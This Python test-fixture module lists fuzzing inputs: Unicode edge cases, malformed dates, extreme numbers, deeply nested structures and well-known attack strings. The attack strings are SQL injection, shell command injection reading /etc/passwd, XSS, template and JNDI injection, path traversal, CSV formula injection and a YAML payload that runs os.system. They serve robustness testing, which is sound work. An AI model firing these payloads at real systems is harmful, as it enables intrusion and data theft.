"""Texts and values that break what is careless, of the kinds that are well known to."""

from __future__ import annotations

from typing import Any

TEXTS = (
    "", " ", "\t\n", "\x00", "a\x00b", "\x1b[31m", "\x7f", "\r\nX-Injected: 1", "\ud800", "a\udfffb", "\ud83d\ude00"[:1],
    "\ufeffname", "\u202etxt.exe", "\u200b\u2060", "\u2028\u2029", "\ufffe\uffff", "👩‍👩‍👧‍👦🏳️‍🌈", "é e\u0301",
    "z\u0351\u0349\u0324a\u0334\u0310l\u0317\u0359g\u0322\u0302o" + "\u0336" * 60, "ﷺ" * 40, "田中さん Ωß İıſ", "𝕬𝖈𝖒𝖊",
    "a" * 64, "a" * 300, "a" * 301, "é" * 5_000, "a." * 150, "." * 253, "-" * 70 + ".example", "xn--a.example",
    "'; DROP TABLE segue.accounts; --", "\" OR 1=1 --", "%' AND pg_sleep(9) --", "$$;SELECT 1", "\\'", "E'\\x00'",
    "$(touch /tmp/x)", "`id`", "; cat /etc/passwd |", "&& exit 1", "<script>alert(1)</script>", "<img src=x onerror=y>",
    "&lt;&#x0;", "{{7*7}}", "${jndi:ldap://x.example/a}", "%s%n%x", "{0}{self.__class__}", "%(name)s", "{first_name|x}",
    "../../../etc/passwd", "..\\..\\x", "/", "//", "file:///etc/passwd", "%00", "%2e%2e%2f", "a?b#c", "a/traits", "a/pin",
    "CON", "nul.csv", ".csv", "x.csv.gz", "x." + "y" * 190, "=1+1", "@SUM(1)", "0", "-0", "1e309", "NaN", "Infinity",
    "0x1F", "00", "1_000", "٣", "1,000.00", "9" * 400, "true", "False", "null", "None", "undefined", "[]", "{}",
    "2026-02-30T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2026-11-01T24:00:00Z",
    "2026-11-01T00:00:60Z", "-2026-01-01T00:00:00Z", "2026-11-01T00:00:00+99:99", "visitor:acme.example", "a@b@c",
    "http://acme.example:99999/", "[::1]", "127.0.0.1", "*", "a: &a [*a, *a]", "!!python/object/apply:os.system [id]",
    "[" * 2_000, "{a: " * 300, "- " * 900, "(" * 500, "sha256:" + "0" * 64, "sha256:" + "0" * 63 + "\n",
)  # fmt: skip
"""Texts for every field, part of a path, header and parameter."""


def _nested(depth: int) -> Any:
    found: Any = 1
    for _ in range(depth):
        found = [found]
    return found


VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 0.5, 2**31, 2**53, 2**63, 2**64, 10**30, -(10**400), 1e308, 5e-324, [], {}, [[]], [None],
    {"": None}, {"a": {"b": []}}, _nested(50), _nested(300),
)  # fmt: skip
"""What is no text, or not the kind that is expected."""
